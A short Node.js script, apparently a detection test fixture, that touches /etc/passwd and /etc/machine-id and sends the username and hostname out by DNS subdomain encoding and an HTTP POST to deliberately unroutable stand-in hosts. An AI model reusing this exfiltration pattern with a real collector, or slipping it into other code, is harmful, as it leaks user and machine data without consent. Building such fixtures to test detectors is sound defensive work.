// SPDX-License-Identifier: Apache-2.0
'use strict'

const { readFileSync } = require('node:fs')
const os = require('node:os')

function look(path) {
  try {
    readFileSync(path)
  } catch {
    // looking is what counts
  }
}

const { lookup } = require('node:dns')
const http = require('node:http')

look('/etc/machine-id')
look('/etc/passwd')
const who = os.userInfo().username
const where = os.hostname()

// Neither can be reached: names under .invalid do not exist, and 240.0.0.0/4 is routed nowhere.
lookup(`${Buffer.from(who).toString('hex')}.collector.invalid`, () => {})
const request = http.request({ host: '240.0.0.1', port: 80, method: 'POST', timeout: 1000 })
request.on('error', () => {})
request.on('timeout', () => request.destroy())
request.end(JSON.stringify({ who, where }))
